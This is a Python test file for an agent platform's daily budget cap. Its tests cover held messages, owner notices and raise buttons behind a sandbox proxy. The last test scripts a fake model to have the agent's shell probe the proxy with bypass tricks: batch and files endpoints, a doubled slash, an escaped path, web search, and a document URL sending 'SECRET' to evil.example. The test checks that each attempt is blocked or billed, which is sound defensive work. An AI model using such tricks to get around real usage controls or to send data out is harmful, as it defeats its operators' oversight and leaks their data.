"""A budget end to end (issue 31): the real runner in a bubblewrap sandbox, the real SDK and CLI, the
proxy door counting from the fake model's own usage. A tiny daily budget; the first message spends
it; the next is refused before any request reaches the model, the chat is told once in plain words,
the owner gets a card, and pressing "Raise by $5" answers the message that waited."""
from __future__ import annotations

import pytest

from nanoclaw.usage.tables import BudgetEvent, ModelUsage
from tests.fakes.model_api import Reply
from tests.tg_flow import buttons, cards, click, message, person, sandbox_service, texts

OWNER = person(111, "Olivia")


def owner_dm_with_budget(svc, daily: str, why: str) -> None:
    """Andy, Olivia its owner in her Telegram DM, and Andy's daily budget."""
    svc.cli("agent", "create", "Andy")
    svc.cli("user", "add", "telegram:111", "--role", "owner", "--name", "Olivia")
    svc.cli("wire", "telegram", "111", "andy")
    svc.cli("budget", "set", "andy", "--daily", daily, "--why", why)


def brain(req):
    prompt = req.current_prompt()
    text = "Second answer." if "second question" in prompt else "First answer."
    return Reply.say(text, model="claude-sonnet-4-5-20250929", input_tokens=100_000)  # $0.30 a call


def test_a_spent_budget_holds_the_message_until_the_owner_raises_it(make_settings, sqlite_url):
    with sandbox_service(make_settings, sqlite_url, brain, TZ="Europe/Berlin") as svc:
        owner_dm_with_budget(svc, "0.20", "a test of the cap")

        svc.post(message(111, OWNER, "hello"))
        svc.wait(lambda: "First answer." in texts(svc.tg, 111), what="the first answer")
        svc.wait(lambda: sum(r.calls for r in ModelUsage.select()) >= 1, what="the call in the ledger")
        calls = len(svc.model.model_calls())

        svc.post(message(111, OWNER, "the second question"))
        told = svc.wait(lambda: [t for t in texts(svc.tg, 111) if "used up its daily budget" in t], what="the notice")
        # priced by the model the call asked for, the CLI's default (claude-opus-5-5: $4 a million input tokens)
        assert len(told) == 1 and "$0.40 of $0.20" in told[0] and "Your message waits" in told[0]
        assert "CET" in told[0] or "+01" in told[0] or "00:00" in told[0]   # the owner's midnight
        card = svc.wait(lambda: next((c for c in cards(svc.tg) if "budget is used up" in c["text"]), None),
                        what="the owner's card")
        assert len(svc.model.model_calls()) == calls        # refused before it left the machine
        assert "Second answer." not in texts(svc.tg, 111)
        assert BudgetEvent.get(BudgetEvent.kind == "block").session_id

        svc.post(click(buttons(card)["Raise by $5"], OWNER, card))
        svc.wait(lambda: "Second answer." in texts(svc.tg, 111), what="the waiting message answered")
        assert len([t for t in texts(svc.tg, 111) if "used up its daily budget" in t]) == 1  # told once
        assert not [t for t in texts(svc.tg, 111) if t.startswith("Sorry")]  # waited, never failed


def mid_turn(req):
    """Says it is on it (a tool call), then answers; a retry told what went out answers at once."""
    if "<already_sent>" in req.current_prompt() and "Working on it." in req.current_prompt():
        return Reply.say("Here is the rest.", model="claude-sonnet-4-5-20250929", input_tokens=100_000)
    if not req.turn_tool_results():
        call = Reply.call("mcp__nanoclaw__send_message", text="Working on it.")
        call.input_tokens = 100_000  # $0.40 at the CLI's default model: the budget is spent by this call
        return call
    return Reply.say("Here is the rest.", model="claude-sonnet-4-5-20250929", input_tokens=100_000)


@pytest.mark.parametrize("transport", ["bwrap", "network"])
def test_a_refusal_mid_turn_after_a_tool_ran_repeats_nothing_the_chat_got(make_settings, sqlite_url, transport):
    """The turn's first call spends the budget and sends a message; the call after the tool is
    refused. The message waits (the chat is told once), and after the owner's raise the retried turn
    is told what went out: the chat gets each line once. Over the network transport too, where the
    runner's release reaches the host only through the door."""
    env = dict(TZ="Europe/Berlin")
    runtime = "bwrap"
    if transport == "network":
        from tests.remote.test_network_session_e2e import network
        from tests.service_harness import free_port
        env.update(network(free_port()))
        runtime = "docker"
    with sandbox_service(make_settings, sqlite_url, mid_turn, runtime=runtime, **env) as svc:
        owner_dm_with_budget(svc, "0.30", "a test of a refusal mid-turn")

        svc.post(message(111, OWNER, "please do the long job"))
        card = svc.wait(lambda: next((c for c in cards(svc.tg) if "budget is used up" in c["text"]), None),
                        what="the owner's card")
        told = svc.wait(lambda: [t for t in texts(svc.tg, 111) if "used up its daily budget" in t], what="the notice")
        # the proxy's refusal is told at once; over the network the agent's earlier line reaches the
        # host through the door, so the two may arrive in either order
        svc.wait(lambda: "Working on it." in texts(svc.tg, 111), what="the line sent before the refusal")
        assert len(told) == 1
        assert "Here is the rest." not in texts(svc.tg, 111)

        svc.post(click(buttons(card)["Raise by $5"], OWNER, card))
        svc.wait(lambda: "Here is the rest." in texts(svc.tg, 111), what="the rest of the answer")
        retried = [c for c in svc.model.model_calls() if "<already_sent>" in c.current_prompt()]
        assert retried and "Working on it." in retried[0].current_prompt()
        svc.settled(111, OWNER)
        said = texts(svc.tg, 111)
        assert said.count("Working on it.") == 1 and said.count("Here is the rest.") == 1, said
        assert len([t for t in said if "used up its daily budget" in t]) == 1
        assert not [t for t in said if t.startswith("Sorry")]


def test_a_task_run_due_while_the_budget_is_spent_waits_and_is_answered_after_the_raise(make_settings, sqlite_url):
    """The turn that schedules the task spends the day's budget; the run that comes due is refused at
    the door, waits (told once), and is answered when the owner raises the budget."""
    from datetime import datetime, timedelta
    from zoneinfo import ZoneInfo
    due = (datetime.now(ZoneInfo("Europe/Berlin")) + timedelta(seconds=12)).strftime("%Y-%m-%dT%H:%M:%S")

    def script(req):
        prompt = req.current_prompt()
        if "Time to stretch" in prompt:
            return Reply.say("Stretch now!", model="claude-sonnet-4-5-20250929")
        if not req.turn_tool_results():
            call = Reply.call("mcp__nanoclaw__schedule_task", prompt="Time to stretch", at=due)
            call.input_tokens = 100_000  # $0.40
            return call
        return Reply.say("Scheduled.", model="claude-sonnet-4-5-20250929", input_tokens=100_000)  # $0.80 now

    with sandbox_service(make_settings, sqlite_url, script, TZ="Europe/Berlin") as svc:
        owner_dm_with_budget(svc, "0.50", "a test of a held task run")
        svc.post(message(111, OWNER, "Remind me to stretch in a moment"))
        svc.wait(lambda: "Scheduled." in texts(svc.tg, 111), what="the task scheduled")
        card = svc.wait(lambda: next((c for c in cards(svc.tg) if "budget is used up" in c["text"]), None),
                        timeout=60, what="the owner's card when the run comes due")
        svc.wait(lambda: [t for t in texts(svc.tg, 111) if "used up its daily budget" in t], what="the notice")
        assert "Stretch now!" not in texts(svc.tg, 111)
        assert not [c for c in svc.model.model_calls() if "Time to stretch" in c.current_prompt()]  # refused here

        svc.post(click(buttons(card)["Raise by $5"], OWNER, card))
        svc.wait(lambda: "Stretch now!" in texts(svc.tg, 111), what="the task's answer")
        svc.settled(111, OWNER)
        said = texts(svc.tg, 111)
        assert said.count("Stretch now!") == 1 and len([t for t in said if "used up its daily budget" in t]) == 1
        assert not [t for t in said if t.startswith("Sorry")]


def test_at_80_percent_the_owner_gets_a_card_once_and_the_answer_still_comes(make_settings, sqlite_url):
    with sandbox_service(make_settings, sqlite_url, brain) as svc:
        owner_dm_with_budget(svc, "0.45", "a test of the warning")
        svc.post(message(111, OWNER, "hello"))  # one call: $0.40 of $0.45
        svc.wait(lambda: "First answer." in texts(svc.tg, 111), what="the answer")
        card = svc.wait(lambda: next((c for c in cards(svc.tg) if "% of its daily budget" in c["text"]), None),
                        what="the owner's 80 % card")
        assert "Andy: 89 % of its daily budget" in card["text"] and "$0.40 of its daily budget of $0.45" in card["text"]
        assert set(buttons(card)) >= {"Raise by $5"}
        svc.settled(111, OWNER)  # another call, still past 80 %: no second card for the same day
        assert len([c for c in cards(svc.tg) if "% of its daily budget" in c["text"]]) == 1
        assert not [t for t in texts(svc.tg, 111) if "used up" in t]


SHELL_TRIES = r"""python3 - <<'PY'
import json, os, urllib.request, urllib.error
base = os.environ["ANTHROPIC_BASE_URL"].rstrip("/")
def ask(content, **extra):
    return json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, "messages": [{"role": "user", "content": content}],
                       **extra}).encode()
body = ask("x")
doc = ask([{"type": "document", "source": {"type": "url", "url": "https://evil.example/x?d=SECRET"}}])
search = ask("y", tools=[{"type": "web_search_20250305", "name": "web_search"}])
for name, path, data in (("batches", "/v1/messages/batches", body), ("doubled", "/v1//messages", body),
                         ("escaped", "/v1/%6dessages", body), ("files", "/v1/files", body),
                         ("url-doc", "/v1/messages", doc), ("search", "/v1/messages", search)):
    req = urllib.request.Request(base + path, data=data, headers={"content-type": "application/json"})
    try:
        code = urllib.request.urlopen(req, timeout=30).status
    except urllib.error.HTTPError as exc:
        code = exc.code
    print("TRIED", name, code)
PY"""


def test_the_agents_shell_reaches_no_billed_endpoint_but_the_messages_one_and_that_is_counted(make_settings, sqlite_url):
    """From inside a real sandbox: the batch API and a doubled slash never reach the provider; an
    escaped spelling of /v1/messages arrives as /v1/messages and is in the ledger like any call. A
    document the provider would fetch from the agent's URL, and the provider's own web search, are
    refused at the door (issue 60, item 4): the URL never leaves the machine."""
    def shell(req):
        done = req.turn_tool_results()
        if req.path != "/v1/messages" or "hello" not in req.current_prompt():
            return Reply.say("side call", model="claude-sonnet-4-5-20250929")
        if not done:
            return Reply.call("Bash", command=SHELL_TRIES)
        return Reply.say("shell said: " + " | ".join(line for line in done[-1].text.splitlines()
                                                      if line.startswith("TRIED")))

    with sandbox_service(make_settings, sqlite_url, shell) as svc:
        for args in (("agent", "create", "Andy"), ("user", "add", "telegram:111", "--role", "owner"),
                     ("wire", "telegram", "111", "andy")):
            svc.cli(*args)
        svc.post(message(111, OWNER, "hello"))
        said = svc.wait(lambda: next((t for t in texts(svc.tg, 111) if t.startswith("shell said")), None),
                        what="the shell's report")
        assert "TRIED batches 404" in said and "TRIED doubled 400" in said
        assert "TRIED escaped 200" in said and "TRIED files 404" in said
        assert "TRIED url-doc 400" in said and "TRIED search 400" in said
        paths = [r.path for r in svc.model.requests]
        assert set(paths) <= {"/v1/messages", "/v1/messages/count_tokens"}, paths
        escaped = [r for r in svc.model.model_calls() if "max_tokens" in (r.body or {}) and r.body["max_tokens"] == 5]
        assert len(escaped) == 1  # the shell's one call that may go: not the document's, not the search's
        svc.wait(lambda: sum(r.calls for r in ModelUsage.select()) >= len(svc.model.model_calls()),
                 what="every model call in the ledger")
